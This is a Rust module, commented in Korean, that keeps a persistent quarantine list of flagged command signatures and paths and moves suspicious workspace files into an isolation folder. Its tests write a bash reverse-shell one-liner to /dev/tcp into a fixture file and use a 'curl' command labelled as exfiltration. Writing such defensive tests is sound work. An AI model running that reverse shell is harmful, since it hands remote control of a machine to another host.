//! Quarantine System - 플래그된 대상 격리 목록
//!
//! 한 번 플래그된 subject (경로, 명령어 시그니처) 는 관리자가 지울 때까지
//! 재스캔 없이 즉시 거부됩니다. 목록은 `quarantine.json` 으로 저장됩니다.

use crate::audit::{AuditLog, AuditRecord};
use crate::storage::atomic_write_json;
use crate::{Error, Result};
use chrono::{DateTime, Utc};
use parking_lot::RwLock;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use tracing::{info, warn};

/// 격리 목록 파일 이름
pub const QUARANTINE_FILE: &str = "quarantine.json";

/// 격리 파일이 옮겨지는 워크스페이스 하위 디렉토리
pub const ISOLATION_DIR: &str = ".quarantine";

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct QuarantineEntry {
    pub subject: String,
    pub reason: String,
    pub added_at: DateTime<Utc>,
}

/// 격리된 파일 정보 (manifest)
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct IsolatedFile {
    pub original_path: PathBuf,
    pub isolated_path: PathBuf,
    pub reason: String,
    pub isolated_at: DateTime<Utc>,
}

pub struct QuarantineSystem {
    entries: RwLock<HashMap<String, QuarantineEntry>>,
    persist_path: Option<PathBuf>,
    audit: Option<Arc<AuditLog>>,
}

impl QuarantineSystem {
    /// 메모리 전용
    pub fn new() -> Self {
        Self {
            entries: RwLock::new(HashMap::new()),
            persist_path: None,
            audit: None,
        }
    }

    /// `data_dir/quarantine.json` 에 저장 (기존 파일이 있으면 로드)
    pub fn persistent(data_dir: &Path) -> Result<Self> {
        let path = data_dir.join(QUARANTINE_FILE);
        let entries = if path.exists() {
            let content = std::fs::read_to_string(&path)
                .map_err(|e| Error::Persistence(format!("{}: {}", path.display(), e)))?;
            let list: Vec<QuarantineEntry> = serde_json::from_str(&content)?;
            list.into_iter().map(|e| (e.subject.clone(), e)).collect()
        } else {
            HashMap::new()
        };

        if !entries.is_empty() {
            info!(count = entries.len(), "Loaded quarantine list");
        }

        Ok(Self {
            entries: RwLock::new(entries),
            persist_path: Some(path),
            audit: None,
        })
    }

    pub fn with_audit(mut self, audit: Arc<AuditLog>) -> Self {
        self.audit = Some(audit);
        self
    }

    pub fn get(&self, subject: &str) -> Option<QuarantineEntry> {
        self.entries.read().get(subject).cloned()
    }

    pub fn contains(&self, subject: &str) -> bool {
        self.entries.read().contains_key(subject)
    }

    /// 격리 추가. 이미 있으면 false (기존 사유 유지)
    pub fn add(&self, subject: impl Into<String>, reason: impl Into<String>) -> bool {
        let subject = subject.into();
        let reason = reason.into();
        {
            let mut entries = self.entries.write();
            if entries.contains_key(&subject) {
                return false;
            }
            entries.insert(
                subject.clone(),
                QuarantineEntry {
                    subject: subject.clone(),
                    reason: reason.clone(),
                    added_at: Utc::now(),
                },
            );
        }

        warn!(subject = %subject, reason = %reason, "Subject quarantined");
        self.persist();
        if let Some(audit) = &self.audit {
            audit.append(AuditRecord::Quarantined { subject, reason });
        }
        true
    }

    /// 관리자 해제
    pub fn clear(&self, subject: &str) -> bool {
        if self.entries.write().remove(subject).is_none() {
            return false;
        }
        info!(subject, "Quarantine cleared");
        self.persist();
        if let Some(audit) = &self.audit {
            audit.append(AuditRecord::QuarantineCleared {
                subject: subject.to_string(),
            });
        }
        true
    }

    pub fn clear_all(&self) -> usize {
        let removed: Vec<String> = self.entries.write().drain().map(|(k, _)| k).collect();
        if removed.is_empty() {
            return 0;
        }
        info!(count = removed.len(), "Quarantine list cleared");
        self.persist();
        if let Some(audit) = &self.audit {
            for subject in &removed {
                audit.append(AuditRecord::QuarantineCleared {
                    subject: subject.clone(),
                });
            }
        }
        removed.len()
    }

    /// 추가된 순서로 정렬
    pub fn list(&self) -> Vec<QuarantineEntry> {
        let mut list: Vec<_> = self.entries.read().values().cloned().collect();
        list.sort_by(|a, b| a.added_at.cmp(&b.added_at).then(a.subject.cmp(&b.subject)));
        list
    }

    pub fn len(&self) -> usize {
        self.entries.read().len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.read().is_empty()
    }

    /// 실패해도 메모리 상태가 기준 (다음 변경 때 다시 저장)
    fn persist(&self) {
        let Some(path) = &self.persist_path else {
            return;
        };
        let list = self.list();
        if let Err(e) = atomic_write_json(path, &list) {
            warn!(path = %path.display(), error = %e, "Failed to persist quarantine list");
        }
    }

    /// 워크스페이스 파일을 `.quarantine/` 으로 옮기고 manifest 를 남김
    pub fn isolate_file(
        &self,
        workspace_root: &Path,
        path: &Path,
        reason: &str,
    ) -> Result<IsolatedFile> {
        let dir = workspace_root.join(ISOLATION_DIR);
        std::fs::create_dir_all(&dir)?;

        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().to_string())
            .ok_or_else(|| Error::InvalidInput(format!("not a file: {}", path.display())))?;
        let isolated_at = Utc::now();
        let isolated_path = dir.join(format!("{}-{}", isolated_at.format("%Y%m%d%H%M%S%3f"), name));

        if std::fs::rename(path, &isolated_path).is_err() {
            std::fs::copy(path, &isolated_path)?;
            std::fs::remove_file(path)?;
        }

        let isolated = IsolatedFile {
            original_path: path.to_path_buf(),
            isolated_path: isolated_path.clone(),
            reason: reason.to_string(),
            isolated_at,
        };
        let mut manifest = isolated_path.clone().into_os_string();
        manifest.push(".manifest.json");
        atomic_write_json(Path::new(&manifest), &isolated)?;

        warn!(
            from = %path.display(),
            to = %isolated_path.display(),
            "File isolated"
        );
        self.add(path.display().to_string(), reason);
        Ok(isolated)
    }
}

impl Default for QuarantineSystem {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::AuditKind;

    #[test]
    fn test_add_and_clear() {
        let audit = Arc::new(AuditLog::in_memory());
        let q = QuarantineSystem::new().with_audit(audit.clone());

        assert!(q.add("run_command:curl x", "exfiltration"));
        assert!(!q.add("run_command:curl x", "again"));
        assert!(q.contains("run_command:curl x"));
        assert_eq!(q.get("run_command:curl x").unwrap().reason, "exfiltration");

        assert!(q.clear("run_command:curl x"));
        assert!(!q.clear("run_command:curl x"));
        assert!(q.is_empty());

        assert_eq!(audit.count(AuditKind::Quarantined), 1);
        assert_eq!(audit.count(AuditKind::QuarantineCleared), 1);
    }

    #[test]
    fn test_persistence_roundtrip() {
        let dir = tempfile::tempdir().unwrap();
        {
            let q = QuarantineSystem::persistent(dir.path()).unwrap();
            q.add("a", "first");
            q.add("b", "second");
        }

        let reloaded = QuarantineSystem::persistent(dir.path()).unwrap();
        assert_eq!(reloaded.len(), 2);
        assert!(reloaded.contains("b"));

        assert_eq!(reloaded.clear_all(), 2);
        let empty = QuarantineSystem::persistent(dir.path()).unwrap();
        assert!(empty.is_empty());
    }

    #[test]
    fn test_isolate_file() {
        let ws = tempfile::tempdir().unwrap();
        let file = ws.path().join("payload.sh");
        std::fs::write(&file, "bash -i >& /dev/tcp/1.2.3.4/9 0>&1").unwrap();

        let q = QuarantineSystem::new();
        let isolated = q.isolate_file(ws.path(), &file, "reverse shell").unwrap();

        assert!(!file.exists());
        assert!(isolated.isolated_path.exists());
        assert!(isolated.isolated_path.starts_with(ws.path().join(ISOLATION_DIR)));
        assert!(q.contains(&file.display().to_string()));
    }
}
